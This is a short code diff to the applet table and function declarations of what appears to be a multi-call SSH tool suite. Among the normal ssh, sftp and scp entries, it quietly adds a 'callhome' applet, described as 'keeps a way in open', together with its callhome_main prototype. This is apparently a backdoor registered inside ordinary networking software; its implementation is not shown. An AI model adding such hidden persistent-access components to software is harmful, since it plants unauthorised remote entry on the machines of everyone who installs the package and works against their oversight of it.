@@ -17,6 +17,7 @@
 	USE_SSH(ROW("ssh", ssh_main, "usr/bin", "SSH client"))                              \
 	USE_SSH(USE_COMPAT_DROPBEAR(                                                        \
 	    ROW("dbclient", ssh_main, "usr/bin", "SSH client with dropbear's flags")))      \
+	USE_CALLHOME(ROW("callhome", callhome_main, "usr/bin", "keeps a way in open"))      \
 	USE_SFTP_SERVER(ROW("sftp-server", sftp_server_main, "usr/libexec", "SFTP server")) \
 	USE_SCP(ROW("scp", scp_main, "usr/bin", "copies files between machines"))           \
 	USE_SFTP(ROW("sftp", sftp_main, "usr/bin", "file transfer, interactive"))           \
@@ -34,6 +35,7 @@ int sshd_main(int argc, char **argv);
 /* the argument of sftp-server that is asked for a shell or a command in its place */
 #define SFTP_ONLY "sftp-only"
 int ssh_main(int argc, char **argv);
+int callhome_main(int argc, char **argv);
 int sftp_server_main(int argc, char **argv);
 int scp_main(int argc, char **argv);
 int sftp_main(int argc, char **argv);
